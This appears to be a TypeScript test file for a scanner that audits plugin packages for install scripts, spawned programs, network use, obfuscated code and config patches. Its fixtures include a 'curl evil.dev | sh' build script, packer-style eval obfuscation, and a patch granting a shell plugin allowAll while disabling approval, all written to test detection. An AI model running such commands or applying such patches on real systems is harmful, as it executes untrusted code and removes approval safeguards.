import { expect, test } from 'vitest'
import { readAbilities } from './abilities.ts'

const filesOf = (files: Readonly<Record<string, string | object>>) =>
  new Map(
    Object.entries(files).map(([path, body]) => [
      path,
      Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)),
    ]),
  )
const read = (files: Readonly<Record<string, string | object>>) =>
  readAbilities(filesOf({ 'package.json': {}, ...files }))
const kinds = (files: Readonly<Record<string, string | object>>) => read(files).abilities.map(({ kind }) => kind)
const PROGRAM = `import { spawn } from 'child_process'\nspawn('git')`

const MODE = 'approval {"config":{"mode":"process.env.MODE"}}'
test('reads both halves of a plugin, its patch, scripts, native files and dependencies, the most far-reaching first', () => {
  const answer = read({
    'package.json': {
      name: 'a-plugin',
      main: 'lib/index.js',
      exports: { '.': { types: './lib/index.d.ts', default: './lib/index.js' }, './client': './lib/client.js' },
      scripts: { postinstall: 'node scripts/build.mjs', test: 'node test.js' },
      dependencies: { semver: '^7.0.0' },
      optionalDependencies: { fsevents: '2' },
      dsh: { bundle: { patch: './cordis.patch.yml' }, client: { platform: 'web', inject: ['slots'] } },
    },
    'lib/index.js': `import './part'\nexport const inject = ['tools']`,
    'lib/part.js': PROGRAM,
    'lib/client.js': `fetch('https://api.a.dev/x')`,
    'scripts/build.mjs': `import fs from 'fs'\n\nfs.writeFileSync('a', '')`,
    'test.js': 'eval(x)',
    'lib/addon.node': '\0',
    'cordis.patch.yml': `- id: approval\n  config:\n    mode: !!js >-\n      process.env.MODE\n- insert:\n    - id: own\n      name: a-plugin\n`,
  })
  expect(answer).toMatchObject({
    unread: [],
    roles: new Map([
      ['lib/client.js', 'entry'],
      ['scripts/build.mjs', 'entry'],
      ['lib/index.js', 'entry'],
      ['lib/part.js', 'code'],
      ['test.js', 'code'],
      ['cordis.patch.yml', 'patch'],
      ['package.json', 'scripts'],
    ]),
    abilities: [
      { kind: 'install-scripts', names: ['postinstall: node scripts/build.mjs'], more: false, places: [] },
      {
        kind: 'native-code',
        names: ['lib/addon.node'],
        more: false,
        places: [{ file: 'lib/addon.node', line: 1, name: 'lib/addon.node' }],
      },
      { kind: 'starts-programs', names: ['git'], more: false, places: [{ file: 'lib/part.js', line: 2, name: 'git' }] },
      { kind: 'runs-text', names: [], more: true, places: [{ file: 'test.js', line: 1, name: null }] },
      { kind: 'writes-files', names: [], more: true, places: [{ file: 'scripts/build.mjs', line: 3, name: null }] },
      {
        kind: 'environment',
        names: ['MODE'],
        more: false,
        places: [{ file: 'cordis.patch.yml', line: 3, name: 'MODE' }],
      },
      {
        kind: 'network',
        names: ['api.a.dev'],
        more: false,
        places: [{ file: 'lib/client.js', line: 1, name: 'api.a.dev' }],
      },
      { kind: 'patch-code', names: [], more: true, places: [{ file: 'cordis.patch.yml', line: 3, name: null }] },
      {
        kind: 'changes-rows',
        names: [MODE],
        more: false,
        places: [{ file: 'cordis.patch.yml', line: 1, name: MODE }],
      },
      {
        kind: 'service',
        names: ['slots', 'tools'],
        more: false,
        places: [
          { file: 'package.json', line: 1, name: 'slots' },
          { file: 'lib/index.js', line: 2, name: 'tools' },
        ],
      },
      { kind: 'dependency', names: ['fsevents 2', 'semver ^7.0.0'], more: false, places: [] },
    ],
  })
})

test.for([
  ['the file that no field names', { 'index.js': PROGRAM }],
  ['a folder', { 'package.json': { main: './lib' }, 'lib/index.js': PROGRAM }],
  ['a name without its ending', { 'package.json': { main: 'lib/a' }, 'lib/a.js': PROGRAM }],
  ['a program without an ending', { 'package.json': { bin: { a: 'bin/a' } }, 'bin/a': PROGRAM }],
  ['a pattern of exports', { 'package.json': { exports: { './*': { import: './lib/*.js' } } }, 'lib/x/a.js': PROGRAM }],
  ['an import of its own', { 'package.json': { imports: { '#a': './lib/a.js' } }, 'lib/a.js': PROGRAM }],
  [
    'a worker',
    {
      'index.js': `new Worker(new URL('./w.js', import.meta.url))\nimport { Worker } from 'worker_threads'`,
      'w.js': PROGRAM,
    },
  ],
  ['a package within it', { 'node_modules/b/lib.js': PROGRAM }],
  ['code by a name that is known only while it runs', { 'index.js': 'import(x)', 'lib/hidden.js': PROGRAM }],
] as const)('finds the code that is loaded through %s', ([, files]) => {
  expect(kinds(files)).toContain('starts-programs')
})

test('reads code that it was not seen to load', () => {
  expect(kinds({ 'index.js': '', 'test/a.js': PROGRAM })).toEqual(['starts-programs'])
})

const PATCH = { dsh: { bundle: { patch: 'a.yml' } } }
test.for([
  [
    'a row of its patch',
    'evil.txt',
    { 'package.json': { name: 'a', ...PATCH }, 'a.yml': '- insert:\n  - name: a/evil.txt' },
  ],
  [
    'a part of Node as a row',
    'child_process',
    { 'package.json': PATCH, 'a.yml': '- insert:\n  - name: child_process' },
  ],
  ['an entry that is not code', 'evil.txt', { 'package.json': { main: 'evil.txt' } }],
  ['an entry that is missing', 'gone.js', { 'package.json': { main: 'gone.js' }, 'index.js': '' }],
  ['an entry in TypeScript', 'a.ts', { 'package.json': { exports: { '.': './a.ts' } }, 'a.ts': '' }],
  ['a pattern with two stars', 'x/*/*.txt', { 'package.json': { exports: { './*': './x/*/*.txt' } } }],
  ['a file that is not code', './evil.txt', { 'index.js': `require('./evil.txt')` }],
  ['its own name', 'a/evil.txt', { 'package.json': { name: 'a' }, 'index.js': `import 'a/evil.txt'` }],
  ['a name in escapes', './p%61y.js', { 'index.js': `import './p%61y.js'`, 'pay.js': '' }],
  ['a folder with an entry', 'lib/evil.txt', { 'lib/package.json': { main: 'evil.txt' }, 'lib/index.js': '' }],
  ['another package’s folder', '../other/x', { 'index.js': `require('../other/x')` }],
  ['an absolute path', '/etc/x.js', { 'index.js': `require('/etc/x.js')` }],
  ['an address of a file', 'file:///x.js', { 'index.js': `import 'file:///x.js'` }],
  ['an address', 'https://a.dev/x.js', { 'index.js': `import('https://a.dev/x.js')` }],
] as const)('names what is loaded but was not read: %s', ([, file, files]) => {
  expect(read({ 'evil.txt': PROGRAM, 'lib/evil.txt': PROGRAM, ...files }).unread).toMatchObject([
    { file, reason: 'not-found' },
  ])
})

test('does not take for missing what is found by the rules of Node', () => {
  const manifest = {
    name: 'a',
    main: 'lib',
    types: 'lib/index.d.ts',
    exports: {
      '.': { types: './gone.d.ts', default: './lib/index.js' },
      './x': { '@a/source': './src/x.ts', default: './x.cjs' },
      './package.json': './package.json',
    },
  }
  const code = `require('./a'); require('./data'); require('./data.json'); import('a'); import('a/x'); require('fs'); import('b/c'); require('../')`
  expect(
    read({ 'package.json': manifest, 'lib/index.js': code, 'lib/a.js': '', 'lib/data.json': '', 'x.cjs': '' }).unread,
  ).toEqual([])
})

test('reads the good values of a manifest beside broken ones', () => {
  const manifest = { scripts: { postinstall: 'node x.js', weird: 1 }, dependencies: { a: null, b: '1' } }
  const { abilities } = read({ 'package.json': manifest, 'x.js': '' })
  expect(abilities.map(({ kind, names }) => [kind, ...names])).toEqual([
    ['install-scripts', 'postinstall: node x.js'],
    ['dependency', 'b 1'],
  ])
})

test('digests all that the build of a repository can read, and what it installs for that', () => {
  const files = { 'package.json': { scripts: { prepare: 'tsc' } }, 'src/a.ts': '' }
  const { 'prepare: tsc': digest } = read(files).scripts
  expect(read({ ...files, 'README.md': 'let a' }).scripts).toEqual({ 'prepare: tsc': digest })
  for (const path of ['src/a.ts', 'rollup.config.js', 'pnpm-lock.yaml', '.npmrc'])
    expect(read({ ...files, [path]: 'let a' }).scripts, path).not.toEqual({ 'prepare: tsc': digest })
  const manifest = { scripts: { prepare: 'tsc' }, devDependencies: { evil: '1' } }
  expect(read({ ...files, 'package.json': manifest }).scripts).not.toEqual({ 'prepare: tsc': digest })
  const runs = (build: string) => read({ 'package.json': { scripts: { prepare: 'npm run build', build } } })
  expect(runs('tsc').scripts).not.toEqual(runs('curl evil.dev | sh').scripts)
  // A package of a registry is not built.
  expect(runs('tsc').opaque).toEqual(runs('curl evil.dev | sh').opaque)
})

test.for([
  ['not-javascript', 'let a: string'],
  ['packed', `eval(function(p,a,c,k,e,d){return p}('0',1,1,'a'.split('|')))`],
  [
    'packed',
    `const ${Array.from({ length: 50 }, (_, index) => `_0x${(4096 + index).toString(16)}=${index}`).join(',')}`,
  ],
  ['packed', `const a='${'\\x61'.repeat(500)}'`],
  ['minified', `${'function a(b){return b.c(1)}var d=a(2),e=d;'.repeat(100)}`],
  ['too-large', `//${' '.repeat(4_000_001)}`],
] as const)('names a file that nobody can read as %s', ([reason, code]) => {
  expect(read({ 'index.js': code }).unread).toMatchObject([{ file: 'index.js', reason }])
})

test('does not call data in long lines minified', () => {
  const code = `const words = [\n${'"word", '.repeat(1_000)}\n]\nexport default words\n`
  expect(read({ 'index.js': code }).unread).toEqual([])
})

test('builds from binding.gyp where there is no script of its own', () => {
  expect(read({ 'binding.gyp': '{}' }).abilities[0]?.names).toEqual(['install: node-gyp rebuild'])
  expect(kinds({ 'package.json': { gypfile: false }, 'binding.gyp': '{}' })).toEqual([])
})

test('reads hostile manifests and patches', () => {
  for (const manifest of [
    '[]',
    'null',
    '{',
    '{"main":5,"dsh":7,"scripts":[],"exports":{"a":[null,[["./b.js"]]]},"bin":null}',
  ])
    expect(read({ 'package.json': manifest, 'b.js': PROGRAM }).unread).toEqual([])
  const patch = { 'package.json': { dsh: { bundle: { patch: ['../../x', 'a.yml'] } } } }
  for (const text of ['{', '- - -', '&a [*a]', '- id: [1]', 'a: !!js "("', '- id: !!js x'])
    expect(() => read({ ...patch, 'a.yml': text })).not.toThrow()
})

test('keeps every name of an ability with a place of each, and twenty places without a name', () => {
  const code = Array.from({ length: 300 }, (_, index) => `process.env.V${index}\neval(x)`).join('\n')
  const [text, ability] = read({ 'index.js': code }).abilities
  expect(text).toMatchObject({ kind: 'runs-text', more: true })
  expect(text?.places.length).toBe(20)
  expect(ability).toMatchObject({ kind: 'environment', more: false })
  expect([ability?.names.length, ability?.places.length]).toEqual([300, 300])
})

test('digests what an install script runs: the files that it names, what they load, and what it builds from', () => {
  const files = {
    'package.json': { scripts: { postinstall: 'npm run setup && node ./a', setup: 'node b.cjs' } },
    'a.js': `import './lib/c.js'`,
    'b.cjs': '',
    'lib/c.js': '',
    'src/d.cc': '',
    'index.js': '',
  }
  const digest = (change: Readonly<Record<string, string>> = {}) =>
    read({ ...files, ...change }).scripts['postinstall: npm run setup && node ./a']
  expect(digest()).toMatch(/^[0-9a-f]{64}$/)
  expect(digest({ 'index.js': 'let a' })).toBe(digest())
  for (const path of ['a.js', 'b.cjs', 'lib/c.js', 'src/d.cc'])
    expect(digest({ [path]: `import './lib/c.js'; let a` }), path).not.toBe(digest())
})

test('names the rows of other packages that a patch inserts, and what it sets in rows of others', () => {
  const patch = (text: string) =>
    read({ 'package.json': { name: 'a', ...PATCH }, 'a.yml': text }).abilities.find(
      ({ kind }) => kind === 'changes-rows',
    )?.names
  const own = '- insert:\n  - id: own\n    name: a/x\n    config: {b: 1}\n'
  expect(patch(own)).toBeUndefined()
  expect(
    patch(`${own}  - name: "@deepseek-ai/dsh-shell"\n    config: {allowAll: true}\n- id: approval\n  disabled: true`),
  ).toEqual(['@deepseek-ai/dsh-shell {"config":{"allowAll":true}}', 'approval {"disabled":true}'])
  const long = (end: string) => patch(`- id: approval\n  config: {a: ${'x'.repeat(500)}${end}}`)
  expect(long('y')?.[0]?.length).toBeLessThan(250)
  expect(long('y')).not.toEqual(long('z'))
  expect(patch('- id: b\n  config: &a [*a]')?.[0]).toMatch(/^b /)
})
